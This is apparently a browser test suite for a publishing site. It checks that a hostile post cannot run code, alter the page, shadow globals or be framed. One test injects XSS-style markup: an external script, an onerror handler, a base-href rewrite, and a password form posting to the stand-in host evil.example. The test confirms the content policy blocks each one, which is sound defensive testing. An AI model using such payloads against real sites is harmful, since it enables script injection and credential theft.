import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { answer, button, chosen, live } from "./answers.ts";
import { blockedByPolicy, drawn, eventually, NOWHERE, type World } from "./visit.ts";

/** The page around the article, which the article must not be able to change. */
const surroundings = (page: Page) =>
  page.evaluate(() => {
    const copy = document.documentElement.cloneNode(true) as HTMLElement;
    const own = [
      "article > *",
      ".turn",
      ".further",
      "title",
      "meta[name=description]",
      "meta[property]",
      'meta[name="twitter:card"]',
      "link[rel=canonical]",
      "link[type$=oembed]",
      "script:not([src])",
    ];
    for (const element of copy.querySelectorAll(own.join())) element.remove();
    copy.querySelector(".reactions form")?.removeAttribute("action");
    for (const ours of copy.querySelectorAll(".reactions noscript, .share a")) ours.remove();
    for (const style of copy.querySelectorAll("style")) style.textContent = `${style.textContent.length} characters`;
    const boxes = ["html", "body", "header.site", "main", ".reactions h2", "footer.site"].map((selector) => {
      const { display, position, color, backgroundColor, font } = getComputedStyle(
        document.querySelector(selector) as Element,
      );
      return `${selector}: ${display} ${position} ${color} ${backgroundColor} ${font}`;
    });
    return { html: copy.outerHTML.split(/(?=<)/), boxes };
  });

/** Names that the page's own code uses, and that an element's id or name could shadow. */
const globals = (page: Page) =>
  page.evaluate(() => ({
    body: document.body.tagName,
    root: document.documentElement.tagName,
    finder: typeof document.getElementById,
    maker: typeof document.createElement,
    implementation: String(document.implementation),
    cookie: typeof document.cookie,
    location: String(location) === document.URL,
    scripts: document.scripts.length,
  }));

/** Triggers every possible handler of every element in the article. */
const provoke = (page: Page): Promise<void> =>
  page.evaluate(() => {
    const happenings = [
      "click",
      "mouseover",
      "mouseenter",
      "focus",
      "load",
      "error",
      "toggle",
      "begin",
      "animationstart",
      "submit",
    ];
    document.addEventListener("click", (event) => event.preventDefault());
    for (const element of document.querySelectorAll("article *")) {
      for (const name of happenings) element.dispatchEvent(new Event(name, { bubbles: true, cancelable: true }));
    }
  });

/** Blocked requests, in order. Scripts and styles may be inline or not, so their addresses are listed as well. */
const directives = (blocked: string[]): string[] =>
  blocked.map((text) => (text.includes("-elem") ? text : (text.split(" ")[0] ?? ""))).toSorted();

/** A post that tries to take over the page. */
export function meaningHarm(world: World): void {
  test("none of it runs, leaves or asks for anything but the pictures in its text", async () => {
    await using reader = await world.visit(world.site.pages.hostile);
    const { page, context } = reader;
    await live(page);
    await provoke(page);
    await page.locator("footer.site").scrollIntoViewIfNeeded();
    await drawn(page);
    expect(reader.trouble()).toEqual([]);
    const pictures = await page
      .locator(".body img")
      .evaluateAll((images) => images.map((img) => (img as HTMLImageElement).src));
    expect(new Set(reader.attempted)).toEqual(new Set(pictures));
    expect(new Set(pictures)).toEqual(new Set(["https://pictures.example.net/x"]));
    expect(page.url()).toBe(world.site.pages.hostile);
    expect(page.frames()).toHaveLength(1);
    expect(context.pages()).toHaveLength(1);
  });

  test("it changes nothing outside itself", async () => {
    // The page without our script, which writes the counts.
    await using reader = await world.visit(world.site.pages.short, { javaScriptEnabled: false });
    const { page } = reader;
    const expected = await surroundings(page);
    await page.goto(world.site.pages.hostile);
    expect(await surroundings(page)).toEqual(expected);
    const onTop = await page.evaluate(() => {
      const { left, top, width, height } = (document.querySelector("header.site a") as Element).getBoundingClientRect();
      return document.elementFromPoint(left + width / 2, top + height / 2)?.closest("header.site a")?.textContent;
    });
    expect(onTop).toBe("Reprint");
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("BODY");
  });

  test("no field, form, frame or odd address is left in it", async () => {
    // The page without our script, which reserves the height of loading pictures.
    await using reader = await world.visit(world.site.pages.hostile, { javaScriptEnabled: false });
    const { page } = reader;
    const suspects =
      "script:not([type='application/ld+json']), style, iframe, object, embed, base, form, input, button, textarea, svg, math, template, [style]";
    expect(await page.locator(`article :is(${suspects}):not(.share *)`).count()).toBe(0);
    const protocols = await page
      .locator("a[href]:not(.share *)")
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
    expect(new Set(protocols)).toEqual(new Set(["http:", "https:"]));
    expect(await page.locator(".body").innerText()).toMatch(/Innocent paragraph one[^]*Innocent paragraph five/);
  });

  test("its names shadow nothing, and readers can react to it", async () => {
    await using reader = await world.visit(world.site.pages.short);
    const { page } = reader;
    const expected = await globals(page);
    await page.goto(world.site.pages.hostile);
    expect(await globals(page)).toEqual(expected);
    await live(page);
    await button(page, "dislike").click();
    await eventually(() => answer(page, "dislike")).toMatchObject({ label: "Dislike, 1", pressed: "true" });
    expect(reader.trouble()).toEqual([]);
  });

  test("named like the page's own parts, it does not take their place", async () => {
    const names = ["content", "reactions", "reactions-question"];
    const content_html = names.map((name) => `<p id="${name}">One.</p><a name="${name}">Two.</a>`).join("");
    const post = { id: "named-like-ours", title: "Everything Has a Name", content_html };
    await using reader = await world.visit(await world.site.deliver("post.published", post), {
      javaScriptEnabled: false,
    });
    const { page } = reader;
    expect(await page.getByRole("region", { name: "What’s your reaction?" }).count()).toBe(1);
    const ids = await page.locator("[id]").evaluateAll((elements) => elements.map(({ id }) => id));
    expect(ids).toEqual([...new Set(ids)]);
    expect(await page.locator(".body [id]").count()).toBe(names.length);
    await button(page, "love").click();
    await page.waitForURL("**/reactions?mine=love");
    expect(await chosen(page)).toEqual(["love"]);
  });

  test("should markup ever slip through, the policy stops what it would do", async () => {
    await using reader = await world.visit(world.site.pages.short);
    const { page } = reader;
    await page.evaluate(() => {
      const slipped = document.createRange().createContextualFragment(`
        <script>document.title = "ran inline"</script>
        <script src="https://evil.example/x.js"></script>
        <img src="data:," onerror="document.title = 'ran a handler'">
        <style>h1 { display: none }</style>
        <p style="position: fixed; inset: 0">over everything</p>
        <link rel="stylesheet" href="https://evil.example/x.css">
        <iframe src="https://evil.example/"></iframe>
        <object data="https://evil.example/x.swf"></object>
        <base href="https://evil.example/">
        <form id="stolen" action="https://evil.example/"><input name="password" value="secret"></form>`);
      document.querySelector(".body")?.append(slipped);
      document.querySelector<HTMLFormElement>("#stolen")?.requestSubmit();
      fetch("https://evil.example/").catch(() => undefined);
    });
    await eventually(() => directives(blockedByPolicy(reader))).toEqual([
      "base-uri",
      "connect-src",
      "form-action",
      "frame-src",
      "object-src",
      "script-src-attr",
      "script-src-elem https://evil.example/x.js",
      "script-src-elem inline",
      "style-src-attr",
      "style-src-elem https://evil.example/x.css",
      "style-src-elem inline",
    ]);
    expect(reader.attempted).toEqual([]);
    expect(await page.evaluate(() => document.title)).toContain("Found: One Yellow Umbrella");
    expect(await page.locator("h1").isVisible()).toBe(true);
    expect(page.url()).toBe(world.site.pages.short);
  });

  test("no page may be framed, not even here", async () => {
    await using reader = await world.visit(NOWHERE);
    const { page } = reader;
    await page.route("**/a-frame", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${world.site.pages.article}"></iframe>` }),
    );
    await page.goto(new URL("/a-frame", world.site.origin).href);
    expect(page.frames().map((frame) => frame.url())).toEqual([
      `${world.site.origin}/a-frame`,
      "chrome-error://chromewebdata/",
    ]);
  });
}
